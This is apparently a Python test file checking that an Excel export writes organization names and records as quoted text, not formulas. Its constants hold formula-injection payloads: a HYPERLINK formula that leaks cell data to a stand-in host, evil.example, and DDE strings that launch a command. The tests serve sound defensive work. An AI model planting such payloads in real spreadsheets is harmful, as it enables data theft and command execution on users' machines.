"""No formulas in the supervision and assessment workbooks (issue #9 item 3)."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook

from gongkai.organizations.models import Organization
from gongkai.reports import assessment
from gongkai.reports.supervision import BodyRow, export_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text_not_formula(cells, texts):
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        assert text in by_value, text
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text


def test_assessment_export_writes_names_and_records_as_text():
    indicator = assessment.INDICATORS[0]
    score = assessment.Score(indicator, 25, 1, 2, records=[PLUS], note=AT)
    na = assessment.Score(assessment.INDICATORS[1], 25)
    result = assessment.Assessment(subject=EVIL, scores=[score, na])
    cells = _cells(assessment.export_xlsx(MINUS, [result]))
    _assert_text_not_formula(cells, [EVIL, PLUS, AT, MINUS])
    total = next(c for c in cells if c.row == 3 and c.column == 2)
    assert total.value == 50.0 and total.data_type == "n"


def test_supervision_export_writes_names_as_text_and_numbers_as_numbers():
    body = Organization(name=EVIL, level="town", slug="x")
    row = BodyRow(
        organization=body,
        report=None,
        deadline=date(2025, 1, 31),
        published_on=None,
        overdue_applications=-1,
        cells={"t2.licensing": -4},
    )
    data = export_xlsx(body, 2024, [row], today=date(2025, 2, 1))
    cells = _cells(data)
    _assert_text_not_formula(cells, [EVIL])
    ws = load_workbook(io.BytesIO(data)).active
    keys = [c.value for c in ws[2]]
    licensing = ws.cell(row=3, column=keys.index("t2.licensing") + 1)
    assert licensing.value == -4 and licensing.data_type == "n"
    assert ws.cell(row=3, column=10).value == -1
